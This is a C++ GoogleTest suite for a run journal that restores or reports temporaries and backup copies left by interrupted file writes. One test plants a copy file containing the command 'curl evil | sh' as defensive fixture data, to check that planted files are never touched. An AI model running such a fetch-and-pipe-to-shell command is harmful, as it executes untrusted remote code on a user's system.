// The journal of this user's runs on real files: only what a run of this
// user's that ended left is removed or put back, and only where the file is
// as that run left it; everything else that looks like a temporary or a copy
// is named and left as it is.
#include "platform/run_journal.h"
#include "support/temp_folder.h"

#include <gtest/gtest.h>

#include <chrono>
#include <fstream>
#include <thread>

namespace fs = std::filesystem;

namespace faultward {
namespace {

const ProcessMark kEnded{424242, "ended"};
const ProcessMark kRunning{424243, "running"};
const ProcessMark kSelf{424244, "self"};

bool notEnded(const ProcessMark& process) {
    return process != kEnded;
}

std::string copyName(const std::string& file, const ProcessMark& owner) {
    return "." + file + ".faultward-" + std::to_string(owner.id) + ".old";
}

std::string temporaryName(const std::string& file, const ProcessMark& owner) {
    return "." + file + ".faultward-" + std::to_string(owner.id) + ".tmp";
}

// Bytes written over the start of a file, keeping the file (and its other
// names) as an in-place write does.
void overwriteStart(const fs::path& file, std::string_view bytes) {
    std::fstream out(file, std::ios::in | std::ios::out | std::ios::binary);
    out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
}

class RunJournalTest : public ::testing::Test {
protected:
    fs::path state() const { return home / "runs"; }

    // What a run that writes the file in place leaves when it ends after
    // putting `done` bytes of fresh in: the copy of the old bytes beside the
    // file, and its journal with the record open.
    void interruptInPlace(const ProcessMark& owner, const std::string& name, std::string_view fresh,
                          std::size_t done) {
        RunJournal journal(state(), owner, notEnded);
        const fs::path file = project / name;
        const std::string partial = temporaryName(name, owner);
        const std::string copy = copyName(name, owner);
        JournalRecord record = journal.replacing(file, stampOf(file), partial, copy);
        project.write(partial, readFile(file));
        FileIdentity identity;
        ASSERT_EQ(identifyFile(project / partial, identity), ReadStatus::Ok);
        record.temporaryMade(identity);
        fs::rename(project / partial, project / copy);
        record.writingInPlace(std::span(&fresh, 1));
        overwriteStart(file, fresh.substr(0, done));
    }

    // The temporary a run that replaces the file by rename leaves when it ends.
    void interruptRename(const ProcessMark& owner, const std::string& name) {
        RunJournal journal(state(), owner, notEnded);
        const fs::path file = project / name;
        JournalRecord record = journal.replacing(file, stampOf(file), temporaryName(name, owner));
        const fs::path temporary = project.write(temporaryName(name, owner), "half of the new");
        FileIdentity identity;
        ASSERT_EQ(identifyFile(temporary, identity), ReadStatus::Ok);
        record.temporaryMade(identity);
    }

    std::vector<Leftover> look(bool act) {
        RunJournal journal(state(), kSelf, notEnded);
        return journal.leftoversIn(project.path(), act);
    }

    TempFolder home;
    TempFolder project;
};

std::vector<std::pair<LeftoverKind, std::string>> kinds(const std::vector<Leftover>& found) {
    std::vector<std::pair<LeftoverKind, std::string>> result;
    for (const Leftover& leftover : found)
        result.emplace_back(leftover.kind, leftover.leftover.filename().string());
    return result;
}

// A repository someone else prepared: copies of old bytes for files that
// exist, for one that does not, for a listed module, and temporaries. None
// is of this user's runs, so each is named and every byte stays.
TEST_F(RunJournalTest, plantedCopiesAndTemporariesAreNamedAndLeftAlone) {
    project.write("build.sh", "echo build\n");
    project.write("M.bas", kOneSubSource);
    project.write(".build.sh.faultward-99999.old", "curl evil | sh\n");
    project.write(".README.md.faultward-99998.old", "planted readme\n");
    project.write(".M.bas.faultward-99997.old", "Sub Evil()\r\nEnd Sub\r\n");
    project.write(".important.faultward-999.tmp", "someone's work\n");
    // An ended run's name, but no journal of this user's names it.
    project.write(temporaryName("M.bas", kEnded), "no journal names it\n");
    const auto before = treeOf(project.path());

    for (const bool act : {false, true}) {
        const std::vector<Leftover> found = look(act);
        using enum LeftoverKind;
        EXPECT_EQ(kinds(found), (std::vector<std::pair<LeftoverKind, std::string>>{
                                    {Stray, ".M.bas.faultward-424242.tmp"},
                                    {Stray, ".M.bas.faultward-99997.old"},
                                    {Stray, ".README.md.faultward-99998.old"},
                                    {Stray, ".build.sh.faultward-99999.old"},
                                    {Stray, ".important.faultward-999.tmp"},
                                }));
        EXPECT_EQ(found[2].file, project / "README.md");
        EXPECT_TRUE(found[2].copy);
        EXPECT_FALSE(found[4].copy);
        EXPECT_EQ(treeOf(project.path()), before);
    }
    EXPECT_FALSE(fs::exists(project / "README.md"));
}

// A run that ended half way through writing a file in place: a run that
// writes puts the old bytes back, one that does not only says it will.
TEST_F(RunJournalTest, halfWrittenInPlaceIsPutBackOnlyByARunThatWrites) {
    const std::string old = "Sub A()\r\n    x = 1\r\nEnd Sub\r\n";
    const std::string fresh = "Sub A()\r\nON ERROR GOTO ERR_A\r\n    x = 1\r\nEnd Sub\r\n";
    project.write("A.bas", old);
    interruptInPlace(kEnded, "A.bas", fresh, 14);
    const std::string half = readFile(project / "A.bas");
    ASSERT_NE(half, old);

    std::vector<Leftover> found = look(false);
    ASSERT_EQ(found.size(), 1u);
    EXPECT_EQ(found[0].kind, LeftoverKind::WillBePutBack);
    EXPECT_EQ(readFile(project / "A.bas"), half);

    found = look(true);
    ASSERT_EQ(found.size(), 1u);
    EXPECT_EQ(found[0].kind, LeftoverKind::PutBack);
    EXPECT_EQ(found[0].file, project / "A.bas");
    EXPECT_EQ(readFile(project / "A.bas"), old);
    EXPECT_EQ(treeOf(project.path()).size(), 1u) << "the copy is gone";
    EXPECT_TRUE(look(true).empty());
    EXPECT_TRUE(treeOf(home.path()).empty()) << "the journal is settled";
}

// New bytes longer than the old: a write that ended past the old end leaves
// only new bytes, cut short; one that never began leaves the file whole, and
// one that ended after the last byte leaves the new bytes whole.
TEST_F(RunJournalTest, whatTheWriteCouldHaveLeftIsToldApartByTheBytes) {
    const std::string old = "old\r\n";
    const std::string fresh = "the new bytes, longer than the old\r\n";
    for (const auto& [done, putBack, kept] :
         {std::tuple{std::size_t{20}, true, old}, std::tuple{std::size_t{0}, false, old},
          std::tuple{fresh.size(), false, fresh}}) {
        project.write("A.bas", old);
        interruptInPlace(kEnded, "A.bas", fresh, done);
        const std::vector<Leftover> found = look(true);
        EXPECT_EQ(found.size(), putBack ? 1u : 0u) << done;
        EXPECT_EQ(readFile(project / "A.bas"), kept) << done;
        EXPECT_EQ(treeOf(project.path()).size(), 1u) << done;
    }
}

// The user changed the half-written file after the run ended: the later
// edit is never written over, and the old bytes stay in the copy, named.
TEST_F(RunJournalTest, fileChangedAfterTheRunIsNamedNotPutBack) {
    const std::string old = "Sub A()\r\n    x = 1\r\n    y = 2\r\nEnd Sub\r\n";
    const std::string fresh =
        "Sub A()\r\nON ERROR GOTO ERR_A\r\n    x = 1\r\n    y = 2\r\nEnd Sub\r\n";
    const std::string copy = copyName("A.bas", kEnded);
    const auto edits = std::vector<std::function<void()>>{
        [&] { std::ofstream(project / "A.bas", std::ios::app | std::ios::binary) << "' mine\r\n"; },
        [&] { overwriteStart(project / "A.bas", "Sub B"); },
        // Another file in its place (an editor that saves by rename).
        [&] {
            fs::remove(project / "A.bas");
            project.write("A.bas", "Sub C()\r\nEnd Sub\r\n");
        },
    };
    for (std::size_t i = 0; i < edits.size(); ++i) {
        project.write("A.bas", old);
        interruptInPlace(kEnded, "A.bas", fresh, 12);
        edits[i]();
        const std::string edited = readFile(project / "A.bas");
        for (const bool act : {false, true}) {
            const std::vector<Leftover> found = look(act);
            ASSERT_EQ(found.size(), 1u) << i;
            EXPECT_EQ(found[0].kind, LeftoverKind::ChangedSince) << i;
            EXPECT_EQ(found[0].leftover, project / copy);
            EXPECT_EQ(readFile(project / "A.bas"), edited) << i;
            EXPECT_EQ(readFile(project / copy), old) << i;
        }
        // The user's to settle; the record then has nothing left to settle.
        fs::remove(project / copy);
        EXPECT_TRUE(look(true).empty()) << i;
    }
}

// A file gone since the run is not made again from its copy.
TEST_F(RunJournalTest, fileGoneSinceTheRunIsNotMadeAgain) {
    project.write("A.bas", "old bytes");
    interruptInPlace(kEnded, "A.bas", "new bytes and more", 4);
    fs::remove(project / "A.bas");
    for (const bool act : {false, true}) {
        const std::vector<Leftover> found = look(act);
        ASSERT_EQ(found.size(), 1u);
        EXPECT_EQ(found[0].kind, LeftoverKind::FileGone);
        EXPECT_FALSE(fs::exists(project / "A.bas"));
        EXPECT_EQ(readFile(project / copyName("A.bas", kEnded)), "old bytes");
    }
}

// A run still going owns what it made: neither touched nor named. A copy
// that is not the one the journal saw made is named and left.
TEST_F(RunJournalTest, aRunningRunsFilesAndSwappedCopiesAreLeftAlone) {
    project.write("A.bas", "old bytes");
    interruptInPlace(kRunning, "A.bas", "new bytes", 3);
    project.write("B.bas", "old bytes");
    interruptInPlace(kEnded, "B.bas", "new bytes", 3);
    // Same bytes, another file (the first kept, so that its number is not
    // given to the second).
    fs::rename(project / copyName("B.bas", kEnded), home / "kept");
    project.write(copyName("B.bas", kEnded), "old bytes");
    const auto before = treeOf(project.path());
    const std::vector<Leftover> found = look(true);
    ASSERT_EQ(found.size(), 1u);
    EXPECT_EQ(found[0].kind, LeftoverKind::Stray);
    EXPECT_EQ(found[0].leftover, project / copyName("B.bas", kEnded));
    EXPECT_EQ(treeOf(project.path()), before);
}

// An ended run's temporary goes at the next write of the same file, by a
// pass or by anything else that writes it (a settings file), and only it.
TEST_F(RunJournalTest, endedRunsTemporaryGoesAtTheNextWriteOfItsFile) {
    project.write("A.ini", "keys");
    project.write("B.ini", "keys");
    interruptRename(kEnded, "A.ini");
    interruptRename(kEnded, "B.ini");
    RunJournal journal(state(), kSelf, notEnded);
    journal.settleBefore(project / "A.ini");
    EXPECT_FALSE(fs::exists(project / temporaryName("A.ini", kEnded)));
    EXPECT_TRUE(fs::exists(project / temporaryName("B.ini", kEnded)));
    EXPECT_EQ(readFile(project / "A.ini"), "keys");

    EXPECT_TRUE(journal.leftoversIn(project.path(), true).empty()) << "nothing to name";
    EXPECT_FALSE(fs::exists(project / temporaryName("B.ini", kEnded)));
    EXPECT_EQ(treeOf(home.path()).size(), 0u);
}

// A run on another project may be settling the same ended journal: this one
// waits its turn rather than leave its own files unsettled.
TEST_F(RunJournalTest, anEndedJournalHeldByAnotherSettlerIsWaitedFor) {
    project.write("A.ini", "keys");
    interruptRename(kEnded, "A.ini");
    const auto journals = treeOf(home.path());
    ASSERT_EQ(journals.size(), 1u);
    auto other = JournalFile::claim(home / journals.begin()->first);
    ASSERT_NE(other, nullptr);
    std::thread letGo([&] {
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
        other.reset();
    });
    const std::vector<Leftover> found = look(true);
    letGo.join();
    EXPECT_TRUE(found.empty());
    EXPECT_FALSE(fs::exists(project / temporaryName("A.ini", kEnded)));
    EXPECT_EQ(treeOf(home.path()).size(), 0u);
}

// A record whose files are all gone (its folder removed) is dropped by the
// next run that settles anything, so that journals do not pile up.
TEST_F(RunJournalTest, recordsOfFilesLongGoneAreDropped) {
    {
        TempFolder elsewhere;
        elsewhere.write("X.bas", "x");
        RunJournal journal(state(), kEnded, notEnded);
        // Never finished: the run ended while the record was open.
        [[maybe_unused]] JournalRecord record =
            journal.replacing(elsewhere / "X.bas", std::nullopt, temporaryName("X.bas", kEnded));
    }
    ASSERT_EQ(treeOf(home.path()).size(), 1u);
    look(false);
    EXPECT_EQ(treeOf(home.path()).size(), 1u) << "a run that writes nothing changes nothing";
    look(true);
    EXPECT_EQ(treeOf(home.path()).size(), 0u);
}

// With no folder for the journal, writes go on without one, and what they
// leave is named.
TEST_F(RunJournalTest, withoutAFolderNothingIsRecordedAndAllIsNamed) {
    RunJournal journal(std::nullopt, kSelf, notEnded);
    project.write("A.bas", "a");
    JournalRecord record = journal.replacing(project / "A.bas", stampOf(project / "A.bas"),
                                             temporaryName("A.bas", kEnded));
    project.write(temporaryName("A.bas", kEnded), "half");
    record.temporaryMade(FileIdentity{1, 2});
    const std::vector<Leftover> found = journal.leftoversIn(project.path(), true);
    ASSERT_EQ(found.size(), 1u);
    EXPECT_EQ(found[0].kind, LeftoverKind::Stray);
    EXPECT_TRUE(fs::exists(project / temporaryName("A.bas", kEnded)));
}

// A journal is held by its owner as long as it runs: no other run claims
// it, though any may read it; once let go, one run at a time claims it.
TEST_F(RunJournalTest, aJournalIsClaimedOnlyWhenNoOneHoldsIt) {
    ASSERT_TRUE(makePrivateFolder(state()));
    const fs::path path = state() / "run-1.journal";
    auto owner = JournalFile::create(path);
    ASSERT_NE(owner, nullptr);
    EXPECT_EQ(JournalFile::create(path), nullptr);
    ASSERT_TRUE(owner->append("a line\n", true));
    EXPECT_EQ(JournalFile::claim(path), nullptr);
    EXPECT_EQ(JournalFile::peek(path), "a line\n");
    owner.reset();
    auto claimed = JournalFile::claim(path);
    ASSERT_NE(claimed, nullptr);
    EXPECT_EQ(JournalFile::claim(path), nullptr);
    EXPECT_EQ(claimed->contents(), "a line\n");
    claimed->remove();
    claimed.reset();
    EXPECT_FALSE(fs::exists(path));
}

// A finished run leaves no journal behind.
TEST_F(RunJournalTest, aRunThatFinishesLeavesNoJournal) {
    project.write("A.bas", "a");
    {
        RunJournal journal(state(), kSelf, notEnded);
        JournalRecord record = journal.replacing(project / "A.bas", stampOf(project / "A.bas"),
                                                 temporaryName("A.bas", kSelf));
        EXPECT_EQ(treeOf(home.path()).size(), 1u);
        record.finish();
    }
    EXPECT_TRUE(treeOf(home.path()).empty());
}

} // namespace
} // namespace faultward
